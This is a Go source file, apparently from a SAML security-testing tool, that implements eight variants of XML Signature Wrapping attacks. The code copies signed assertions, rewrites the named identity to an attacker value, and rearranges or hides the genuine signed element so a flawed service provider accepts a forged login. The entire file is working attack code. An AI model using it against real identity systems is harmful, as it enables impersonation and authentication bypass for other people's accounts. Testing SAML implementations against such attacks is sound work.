package hub

import (
	"fmt"

	"github.com/beevik/etree"
)

// forge makes an element say something else everywhere a person is named.
func forge(e *etree.Element) {
	for _, v := range e.FindElements(".//NameID") {
		v.SetText(Evil)
	}
	for _, v := range e.FindElements(".//AttributeValue") {
		if len(v.ChildElements()) == 0 {
			v.SetText(Evil)
		}
	}
}

// take removes an element's own signature and gives it back.
func take(e *etree.Element) *etree.Element {
	s := e.SelectElement("Signature")
	if s != nil {
		e.RemoveChild(s)
	}
	return s
}

// wrap moves what was signed out of the way and puts a forged copy where it stood
// (Somorovsky and others, USENIX Security 2012). The signed bytes stay what they
// were. In 2, 3, 4, 5 and 7 the signature is mathematically good; in 1, 6 and 8 it
// is to whoever forgets that an enveloped signature is cut out before the digest.
func wrap(response *etree.Element, variant int, sameID bool) error {
	if variant == 1 || variant == 2 {
		return wrapResponse(response, variant, sameID)
	}
	genuine := response.SelectElement("Assertion")
	if genuine == nil || genuine.SelectElement("Signature") == nil {
		return fmt.Errorf("hub: wrapping %d needs a signed Assertion", variant)
	}
	forged := genuine.Copy()
	forge(forged)
	if !sameID {
		forged.CreateAttr("ID", "_"+Evil)
	}
	at := genuine.Index()
	switch variant {
	case 3: // forged before signed
		take(forged)
		response.InsertChildAt(at, forged)
	case 4: // signed inside forged
		take(forged)
		response.RemoveChild(genuine)
		response.InsertChildAt(at, forged)
		forged.AddChild(genuine)
	case 5: // forged keeps the signature, the original without it comes last
		take(genuine)
		response.InsertChildAt(at, forged)
		response.RemoveChild(genuine)
		response.AddChild(genuine)
	case 6: // the original inside the forged one's signature
		take(genuine)
		response.RemoveChild(genuine)
		response.InsertChildAt(at, forged)
		forged.SelectElement("Signature").AddChild(genuine)
	case 7: // forged in Extensions, which take anything
		take(forged)
		extensions := etree.NewElement("samlp:Extensions")
		extensions.AddChild(forged)
		response.InsertChildAt(response.SelectElement("Status").Index(), extensions)
	case 8: // the original in an Object of the forged one's signature
		take(genuine)
		response.RemoveChild(genuine)
		response.InsertChildAt(at, forged)
		add(forged.SelectElement("Signature"), "ds:Object").AddChild(genuine)
	default:
		return fmt.Errorf("hub: no wrapping %d", variant)
	}
	return nil
}

// wrapResponse hides the genuine Response in, or before, its own signature.
func wrapResponse(response *etree.Element, variant int, sameID bool) error {
	signature := response.SelectElement("Signature")
	if signature == nil {
		return fmt.Errorf("hub: wrapping %d needs a signed Response", variant)
	}
	genuine := response.Copy()
	take(genuine)
	for _, a := range response.SelectElements("Assertion") {
		forge(a)
		if !sameID {
			a.CreateAttr("ID", "_"+Evil+"-assertion")
		}
	}
	if !sameID {
		response.CreateAttr("ID", "_"+Evil)
	}
	if variant == 1 {
		add(signature, "ds:Object").AddChild(genuine)
		return nil
	}
	response.InsertChildAt(signature.Index(), genuine)
	return nil
}
